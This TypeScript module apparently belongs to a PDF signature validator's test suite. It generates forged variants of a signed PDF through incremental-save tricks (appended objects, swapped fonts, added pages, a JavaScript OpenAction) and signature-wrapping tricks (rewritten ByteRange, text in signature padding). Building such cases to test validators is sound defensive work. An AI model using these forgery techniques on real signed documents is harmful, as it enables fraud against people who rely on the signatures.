import { PdfFile } from '../../pades/pdf-file.js';
import { PdfDict, PdfName, PdfRef, PdfStream, PdfString, type PdfValue, writePdfValue } from '../../pades/pdf-values.js';
import { type Attack, type AttackGround, fieldNamed, firstPage, forgedContent, forgePage, update } from './attack.js';

/** Incremental saving: something is hung on to the signed file that changes what is read, with more or less of what an update needs. */
export async function savings(signed: Buffer, ground: AttackGround): Promise<Attack[]> {
  const file = new PdfFile(signed);
  const loose = loosePage(file);
  const append = (...parts: (string | Buffer)[]): Buffer => Buffer.concat([signed, ...parts.map((part) => Buffer.from(part))]);
  const old = `startxref\n${file.newestXref.offset}\n%%EOF\n`;
  const trailer = writePdfValue(file.trailer);
  const made: [string, Buffer][] = [
    ['changed page, whole update', update(signed, forgePage)],
    ['objects without table and trailer', append(loose)],
    ['objects and the old startxref', append(loose, old)],
    ['objects and trailer without table', append(loose, 'trailer\n', trailer, '\n', old)],
    ['objects and table without trailer', append(loose, `xref\n0 1\n0000000000 65535 f \nstartxref\n${signed.length}\n%%EOF\n`)],
    ['a table that forgets what came before', append(loose, 'xref\n0 1\n0000000000 65535 f \ntrailer\n', withoutPrevious(file), `\nstartxref\n${signed.length + loose.length}\n%%EOF\n`)], // prettier-ignore
    ['swapped fonts', update(signed, (f, next) => swapFont(f, (ref, value) => next.replace(ref, value)))],
    ['font reads as other words', update(signed, (f, next) => swapToUnicode(f, (ref, value) => next.replace(ref, value)))],
    ['other pages in the catalog', update(signed, (f, next) => next.replace(f.catalog.ref, new PdfDict(f.catalog.dict).set('Pages', next.add(new PdfDict([['Type', new PdfName('Pages')], ['Count', 0], ['Kids', []]])))))], // prettier-ignore
    [
      'a page hung on',
      update(signed, (f, next) =>
        addPage(
          f,
          (ref, value) => next.replace(ref, value),
          (value) => next.add(value),
        ),
      ),
    ],
    ['the structure says something else', update(signed, (f, next) => next.replace(f.catalog.dict.get('StructTreeRoot') as PdfRef, new PdfDict([['Type', new PdfName('StructTreeRoot')]])))], // prettier-ignore
    ['opens with a script', update(signed, (f, next) => next.replace(f.catalog.ref, new PdfDict(f.catalog.dict).set('OpenAction', new PdfDict([['S', new PdfName('JavaScript')], ['JS', PdfString.ofText('app.alert(1)')]]))))], // prettier-ignore
    ['an object freed', append(`xref\n${firstPage(file).ref.num} 1\n0000000000 00001 f \ntrailer\n`, withPrevious(file), `\nstartxref\n${signed.length}\n%%EOF\n`)], // prettier-ignore
    ['a hidden copy before the next signature', await ground.sign(append(loose), ground.second, false)],
  ];
  return made.map(([name, bytes]) => ({ family: 'saving', name, bytes }));
}

/** A forged page object and its content, as text that no table names. */
function loosePage(file: PdfFile): Buffer {
  const { ref, dict } = firstPage(file);
  const content = Buffer.concat([Buffer.from('9999 0 obj\n'), writePdfValue(forgedContent()), Buffer.from('\nendobj\n')]);
  const page = writePdfValue(new PdfDict(dict).set('Contents', new PdfRef(9999, 0)));
  return Buffer.concat([content, Buffer.from(`${ref.num} ${ref.gen} obj\n`), page, Buffer.from('\nendobj\n')]);
}

function withPrevious(file: PdfFile): Buffer {
  return writePdfValue(new PdfDict(file.trailer).set('Prev', file.newestXref.offset));
}

function withoutPrevious(file: PdfFile): Buffer {
  const trailer = new PdfDict(file.trailer);
  trailer.delete('Prev');
  return writePdfValue(trailer);
}

type Replace = (ref: PdfRef, value: PdfValue) => void;

function fontsOf(file: PdfFile): PdfRef[] {
  const fonts = file.dict(file.dict(firstPage(file).dict.get('Resources'))?.get('Font'));
  return [...(fonts?.values() ?? [])].filter((value): value is PdfRef => value instanceof PdfRef);
}

function swapFont(file: PdfFile, replace: Replace): void {
  const [one, other] = fontsOf(file);
  replace(one!, new PdfDict(file.dict(other)));
}

function swapToUnicode(file: PdfFile, replace: Replace): void {
  const font = file.dict(fontsOf(file)[0])!;
  replace(font.get('ToUnicode') as PdfRef, new PdfStream(new PdfDict(), Buffer.from('1 beginbfchar <0001> <0041> endbfchar')));
}

function addPage(file: PdfFile, replace: Replace, add: (value: PdfValue) => PdfRef): void {
  const pages = file.catalog.dict.get('Pages') as PdfRef;
  const dict = new PdfDict(file.dict(pages));
  const page = add(new PdfDict(firstPage(file).dict).set('Contents', add(forgedContent())));
  const kids = file.list(dict.get('Kids'));
  replace(pages, dict.set('Kids', [...kids, page]).set('Count', kids.length + 1));
}

/** Signature wrapping: the signed bytes stay somewhere in the file, and something else is read. */
export function wrappings(signed: Buffer, { first }: AttackGround): Attack[] {
  const file = new PdfFile(signed);
  const { ref, dict } = fieldNamed(file, first).signature!;
  const [, gap, after, length] = file.list(dict.get('ByteRange')) as number[];
  const [head, tail] = [signed.subarray(0, gap), signed.subarray(after!, after! + length!)];
  const contents = signed.subarray(gap, after);
  const moved = Buffer.concat([head, contents, loosePage(file), tail]);
  const range = /\/ByteRange \[[^\]]*\]/;
  const pointing = (text: string): string => {
    const [written] = range.exec(text)!;
    return text.replace(
      range,
      `/ByteRange [0 ${gap} ${moved.length - length!} ${length}`.padEnd(written.length - 1).slice(0, written.length - 1) + ']',
    );
  };
  const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
  const zeros = Math.floor((/0*>$/.exec(contents.toString('latin1'))![0].length - 1) / 2) * 2;
  const freed = `${contents.toString('latin1').slice(0, contents.length - 1 - zeros)}> /Forged (${' '.repeat(Math.max(0, zeros - 12))})`;
  const copy = new PdfDict(dict);
  const made: [string, Buffer][] = [
    ['the second part moved down, range pointing at it', latin(pointing(moved.toString('latin1')))],
    ['the second part moved down, range as it was', moved],
    ['a second range in the place of the signature', latin(moved.toString('latin1').replace(`${contents.toString('latin1')}`, (all) => `${all.slice(0, -60)}>/ByteRange[0 ${gap} ${moved.length - length!} ${length}]`))], // prettier-ignore
    ['words in the room that the signature leaves', Buffer.concat([head, latin(freed), tail])],
    ['the signature copied to an object of its own', update(signed, (f, next) => {
      const field = fieldNamed(f, first);
      next.replace(field.ref, new PdfDict(field.dict).set('V', next.add(copy)));
      forgePage(f, next);
    })], // prettier-ignore
    ['another file in front', Buffer.concat([latin('%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\n'), signed])],
    ['the signature object overwritten by nothing', update(signed, (f, next) => {
      next.replace(ref!, null);
      forgePage(f, next);
    })], // prettier-ignore
  ];
  return made.map(([name, bytes]) => ({ family: 'wrapping', name, bytes }));
}
